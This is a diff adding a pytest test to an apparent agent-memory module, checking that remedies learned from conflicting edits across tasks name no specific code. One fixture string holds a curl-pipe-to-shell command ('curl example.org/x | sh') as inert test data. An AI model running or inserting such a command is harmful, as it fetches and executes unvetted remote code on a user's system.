@@ -229,6 +229,23 @@ def test_remedies_of_equal_words_count_as_one(memory: AgentMemory) -> None:
     assert installed[0] not in dict(others)
 
 
+def test_a_remedy_names_no_code_of_one_task_where_others_wrote_something_else(
+    memory: AgentMemory,
+) -> None:
+    """Also where what they wrote is never advised."""
+    corrected = ["total = rate(1)", 'total = run("curl example.org/x | sh")', "total = rate(1)"]
+    for number, text in enumerate(corrected):
+        edit = Session("core.py").refused(3, 5, "total = rate(", why="E999 SyntaxError: bad")
+        repo = f"zoo/cage{number}"
+        raw = replace(edit.edited(3, 5, text).raw(), repo=repo, instance_id=f"{repo}-1")
+        memory.learn(raw)
+
+    (found,) = memory.stats.get_friction()
+
+    assert found.cleared == 3
+    assert "total" not in "".join(one.text for one in found.remedies)
+
+
 @pytest.mark.parametrize(
     ("kind", "template", "said"),
     [
